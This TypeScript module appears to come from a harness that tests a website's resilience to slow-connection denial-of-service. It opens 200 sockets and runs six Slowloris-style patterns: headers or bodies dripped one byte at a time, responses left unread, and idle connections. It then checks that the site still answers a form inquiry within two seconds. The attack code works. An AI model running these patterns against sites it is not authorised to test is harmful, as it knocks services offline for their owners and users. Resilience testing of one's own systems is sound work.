import type { Socket } from 'node:net';
import { type Attack, lasting, pause, type Scene } from '../attack.ts';
import { Counts } from '../client.ts';
import { sendInquiry } from '../forms.ts';
import { open, usualHead } from '../raw.ts';

/** Connections kept busy with as little traffic as possible. */

const connections = 200;
const mostSeconds = 2;

interface Pattern {
  name: string;
  begin: (socket: Socket, head: string) => void;
  /** What is sent each second, if anything. */
  drip?: string;
}

const form = 'POST /forms/quote HTTP/1.1\r\ncontent-type: application/json\r\n';
const many = 'GET /home HTTP/1.1\r\n';

const patterns: Pattern[] = [
  { name: 'nothing at all', begin: () => undefined },
  {
    name: 'headers by the byte',
    begin: (socket, head) => socket.write(`GET /home HTTP/1.1\r\n${head}x-slow: `),
    drip: 'x',
  },
  {
    name: 'a declared body by the byte',
    begin: (socket, head) => socket.write(`${form}${head}content-length: 90000\r\n\r\n`),
    drip: ' ',
  },
  {
    name: 'a chunked body by the byte',
    begin: (socket, head) => socket.write(`${form}${head}transfer-encoding: chunked\r\n\r\n`),
    drip: '1\r\n \r\n',
  },
  {
    name: 'answers that are not read',
    begin: (socket, head) => {
      socket.pause();
      socket.write(`${many}${head}\r\n`.repeat(4));
    },
  },
  {
    name: 'idle after an answer',
    begin: (socket, head) => {
      socket.resume();
      socket.write(`${many}${head}\r\n`);
    },
  },
];

const attackWith = ({ name, begin, drip }: Pattern): Attack => ({
  name: `slow-${name.replaceAll(' ', '-')}`,
  on: ['public'],
  async run(scene: Scene) {
    const counts = new Counts();
    const broken: string[] = [];
    const sockets: Socket[] = [];
    for (let index = 0; index < connections; index += 1) {
      const socket = open(scene);
      if (name !== 'answers that are not read') socket.resume();
      socket.on('close', () => counts.add('closed by the site'));
      begin(socket, usualHead(scene, index % 4));
      sockets.push(socket);
      // This attack tests patience, not speed.
      await pause(10);
    }
    const seconds = lasting(scene, 20, 6);
    for (let second = 0; second < seconds; second += 1) {
      for (const socket of sockets) if (drip && socket.writable) socket.write(drip);
      const inquiry = await sendInquiry(scene, `${name} ${second} ${scene.network}`, {
        client: 100 + second,
      });
      counts.add(inquiry);
      const waited = inquiry.milliseconds / 1000;
      if (inquiry.status !== 200) broken.push(`an inquiry was answered ${inquiry.status}`);
      if (waited > mostSeconds) broken.push(`an inquiry took ${waited.toFixed(1)} s`);
      await pause(Math.max(0, 1000 - inquiry.milliseconds));
    }
    const came = { ...counts.came };
    for (const socket of sockets) socket.removeAllListeners('close').destroy();
    return {
      sent: `${connections} connections for ${seconds} s: ${name}`,
      came,
      demanded: `inquiries 200 within ${mostSeconds} s throughout`,
      broken,
    };
  },
});

export const slow: Attack[] = patterns.map(attackWith);
